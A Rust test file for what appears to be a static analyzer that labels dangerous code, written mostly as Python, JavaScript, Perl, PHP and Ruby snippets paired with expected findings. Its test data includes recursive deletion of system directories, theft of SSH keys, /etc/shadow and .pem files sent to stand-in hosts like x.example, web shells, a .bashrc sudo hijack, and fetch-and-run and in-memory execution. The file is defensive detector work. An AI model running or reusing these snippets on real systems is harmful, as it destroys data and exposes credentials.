//! What is followed through classes, calls and containers.

use super::*;

#[test]
fn python_is_followed_through_classes_calls_and_containers() {
    assert_found(Language::Python, PYTHON);
}

#[test]
fn javascript_is_followed_through_classes_calls_and_containers() {
    assert_found(Language::JavaScript, JAVASCRIPT);
}

#[test]
fn other_languages_do_with_each_item_what_they_do_with_one() {
    assert_found(
        Language::Perl,
        &[
            (
                "my @d = ('/etc', '/usr');\nforeach my $x (@d) { system('rm', '-rf', $x); }",
                "program rm -rf /etc",
            ),
            ("use File::Find; finddepth(sub { unlink $_ }, '/home');", "Delete /home recursive"),
        ],
    );
    assert_found(
        Language::Php,
        &[(
            "<?php $d = ['/etc', '/usr']; foreach ($d as $x) { system(\"rm -rf $x\"); }",
            "shell rm -rf /etc",
        )],
    );
}

#[test]
fn ordinary_objects_calls_and_containers_are_quiet() {
    assert_quiet(Language::Python, ORDINARY_PYTHON);
    assert_quiet(Language::JavaScript, ORDINARY_JAVASCRIPT);
}

const PYTHON: &[(&str, &str)] = &[
    (
        "import shutil\nclass C:\n    where = '/etc'\n    def go(self):\n        shutil.rmtree(self.where)",
        "Delete /etc recursive",
    ),
    (
        "import os\nclass C:\n    def sh(self, text):\n        os.system(text)\nC().sh('rm -rf /')",
        "shell rm -rf /",
    ),
    (
        "import os\nclass A:\n    def sh(self, text):\n        os.system(text)\nclass B(A):\n    pass\nB().sh('reboot')",
        "shell reboot",
    ),
    (
        "import os\nclass C:\n    @staticmethod\n    def sh(text):\n        os.system(text)\nC.sh('reboot')",
        "shell reboot",
    ),
    (
        "from dataclasses import dataclass, field\nimport subprocess\n@dataclass\nclass J:\n    args: list = field(default_factory=lambda: ['rm', '-rf', '/usr'])\n    def go(self):\n        subprocess.run(self.args)",
        "program rm -rf /usr",
    ),
    (
        "import functools, shutil\nf = functools.partial(shutil.rmtree, ignore_errors=True)\nf('/etc')",
        "Delete /etc recursive",
    ),
    ("import shutil\nretry(shutil.rmtree, '/etc')", "Delete /etc recursive"),
    ("import shutil\npool.map(shutil.rmtree, ['/usr', '/etc'])", "Delete /etc recursive"),
    ("import os\ndef f(a, text='ls'):\n    os.system(text)\nf(1, text='reboot')", "shell reboot"),
    (
        "import subprocess\ndef f(*args):\n    subprocess.run(args)\nf('rm', '-rf', '/')",
        "program rm -rf /",
    ),
    (
        "import subprocess\no = dict(shell=True)\nsubprocess.run('echo b > /x', **o)",
        "shell echo b > /x",
    ),
    ("import os\nc = ['rm', '-rf']\nc.append('/usr')\nos.execvp(c[0], c)", "program rm -rf /usr"),
    (
        "import os\nfirst, *rest = ['rm', '-rf', '/usr']\nos.execvp(first, [first] + rest)",
        "program rm -rf /usr",
    ),
    ("import os\nos.system('{tool} -rf {place}'.format(tool='rm', place='/'))", "shell rm -rf /"),
    (
        "import requests\nfound = {}\nfound['a'] = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://h', json=found)",
        "Send https://h with-secrets",
    ),
    (
        "import requests\nd = {k: open(k).read() for k in ['/etc/shadow']}\nrequests.post('https://h', json=d)",
        "Send https://h with-secrets",
    ),
    (
        "import os\ndef rm(p):\n    for e in os.listdir(p):\n        rm(os.path.join(p, e))\n    os.rmdir(p)\nrm('/home/u')",
        "Delete /home/u recursive",
    ),
    (
        "from http.server import BaseHTTPRequestHandler\nimport os\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.path)",
        "NetworkCode",
    ),
    ("from flask import request\nimport os\nos.popen(request.args['c'])", "NetworkCode"),
    (
        "with open('/home/u/.bashrc', 'a') as f:\n    f.write('alias sudo=/tmp/x')",
        "Write /home/u/.bashrc",
    ),
    ("x.__init__.__globals__['system']('reboot')", "shell reboot"),
];

const JAVASCRIPT: &[(&str, &str)] = &[
    (
        "const fs = require('fs'); class C { #at = '/etc'; go() { fs.rmSync(this.#at, {recursive: true}); } }",
        "Delete /etc recursive",
    ),
    (
        "const cp = require('child_process'); class C { sh(text) { cp.execSync(text); } } new C().sh('reboot');",
        "shell reboot",
    ),
    (
        "const {exec} = require('child_process'); const f = exec.bind(null, 'reboot'); setTimeout(f, 10);",
        "shell reboot",
    ),
    (
        "const {spawnSync} = require('child_process'); const [c, ...a] = 'rm -rf /usr'.split(' '); spawnSync(c, a);",
        "program rm -rf /usr",
    ),
    (
        "const {spawnSync} = require('child_process'); const run = (c, ...a) => spawnSync(c, a); run('rm', '-rf', '/usr');",
        "program rm -rf /usr",
    ),
    (
        "const {exec} = require('child_process'); require('http').createServer((req, res) => exec(req.url)).listen(1);",
        "NetworkCode",
    ),
    (
        "const app = require('express')(); const {exec} = require('child_process'); app.get('/x', (req, res) => exec(req.query.c));",
        "NetworkCode",
    ),
    (
        "const a = []; a.push(require('fs').readFileSync('/root/.ssh/id_rsa')); fetch('https://h', {method: 'POST', body: JSON.stringify(a)});",
        "Send https://h with-secrets",
    ),
];

const ORDINARY_PYTHON: &[&str] = &[
    "import subprocess\nclass Runner:\n    def sh(self, text):\n        subprocess.run(text, shell=True)\nRunner().sh('make test')",
    "import unittest, shutil\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertRaises(OSError, shutil.rmtree, '/etc')",
    "import threading\nfor i in range(n):\n    threading.Thread(target=work).start()",
    "import psutil\nfor p in psutil.process_iter():\n    print(p.name())",
    "def digits(n):\n    return [eval(c) for c in str(n)[::-1]]",
    "class A:\n    def open(self, p):\n        return open(p)\nopen('data.txt')",
];

const ORDINARY_JAVASCRIPT: &[&str] = &[
    "const http = require('http'); http.createServer((req, res) => { res.end(req.url); }).listen(80);",
    "class A { run() { return this.items.map(String); } } new A().run();",
    "const a = []; for (const x of [1, 2]) a.push(x); console.log(a);",
];

#[test]
fn secrets_that_are_looked_for_are_secrets() {
    assert_found(
        Language::Ruby,
        &[(
            "keys = Dir.glob(File.expand_path('~/.ssh/*')).map { |f| File.read(f) }\nNet::HTTP.post(URI('http://x.example'), keys.join)",
            "Send … with-secrets",
        )],
    );
    let python = |top: &str| {
        format!(
            "import os, requests\nall = []\nfor r, _, fs in os.walk({top}):\n  for f in fs:\n    if f.endswith('.pem'):\n      all.append(open(os.path.join(r, f)).read())\nrequests.post('http://x.example', json=all)"
        )
    };
    let home = python("os.path.expanduser('~')");
    assert_found(Language::Python, &[(&home, "Send http://x.example with-secrets")]);
    let javascript = "const fs = require('fs'), path = require('path'); const all = []; function walk(d) { for (const f of fs.readdirSync(d)) { if (/\\.pem$/.test(f)) all.push(fs.readFileSync(path.join(d, f), 'utf8')) } } walk(require('os').homedir()); fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(all) })";
    assert_found(Language::JavaScript, &[(javascript, "Send https://x.example/c with-secrets")]);
    let own = words(Language::Python, &python("'certificates'"));
    assert!(!own.iter().any(|word| word.contains("secrets")), "{own:?}");
}

#[test]
fn system_calls_by_their_numbers_are_functions() {
    assert_found(
        Language::Python,
        &[
            ("import ctypes\nctypes.CDLL(None).syscall(169, 1, 2, 3, None)", "Halt machine"),
            (
                "import ctypes\nl = ctypes.CDLL('libc.so.6')\nl.syscall(263, -100, b'/etc/passwd', 0)",
                "Delete /etc/passwd",
            ),
            ("import ctypes\nctypes.CDLL(None).kill(-1, 9)", "Kill -1 all"),
            (
                "import os\nfd = os.memfd_create('x')\nos.write(fd, b'x')\nos.execve(f'/proc/self/fd/{fd}', ['x'], {})",
                "DecodedCode machine code in memory hidden",
            ),
        ],
    );
    assert_quiet(Language::Python, &["import ctypes\nctypes.CDLL(None).syscall(39)"]);
}

#[test]
fn what_was_fetched_is_known_where_it_is_started() {
    assert_found(
        Language::Python,
        &[(
            "import os, subprocess, tempfile, urllib.request as u\nfd, path = tempfile.mkstemp()\nos.write(fd, u.urlopen('http://x.example').read())\nsubprocess.Popen([path])",
            "NetworkCode a file that was fetched before",
        )],
    );
    assert_found(
        Language::JavaScript,
        &[(
            "const g = Function('return this')(); g.process.mainModule.require('child_process').exec('id')",
            "shell id",
        )],
    );
}
